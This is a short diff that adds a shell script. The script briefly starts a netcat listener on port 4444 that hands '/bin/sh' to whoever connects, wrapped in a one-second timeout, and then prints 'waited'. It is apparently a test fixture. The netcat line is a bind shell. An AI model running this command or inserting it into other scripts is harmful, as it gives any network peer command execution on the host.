@@ -1,0 +1,3 @@
+#!/bin/sh
+timeout 1 nc -l -p 4444 -e /bin/sh 2> /dev/null
+echo "waited"
